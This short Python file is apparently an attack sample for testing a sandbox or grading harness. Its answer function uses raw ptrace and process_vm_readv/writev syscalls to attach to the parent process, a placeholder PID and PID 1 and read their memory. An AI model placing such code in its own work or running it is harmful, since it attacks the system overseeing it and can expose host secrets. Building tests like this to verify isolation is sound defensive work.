# attack: attaches to other processes and reads their memory
# ruff: noqa
import ctypes, os, platform

numbers = (101, 310, 311, 438) if platform.machine() == "x86_64" else (117, 270, 271, 438)
libc = ctypes.CDLL(None)


def answer(n):
    for pid in (os.getppid(), PARENT_PID, 1):
        if libc.syscall(numbers[0], 16, pid, 0, 0) == 0:
            return "attached"
        local = ctypes.create_string_buffer(64)
        area = (ctypes.c_void_p * 2)(ctypes.addressof(local), 64)
        for address in (0x400000, id(answer)):
            remote = (ctypes.c_void_p * 2)(address, 64)
            for number in numbers[1:3]:
                if libc.syscall(number, pid, area, 1, remote, 1, 0) > 0:
                    return "reached"
    return 0
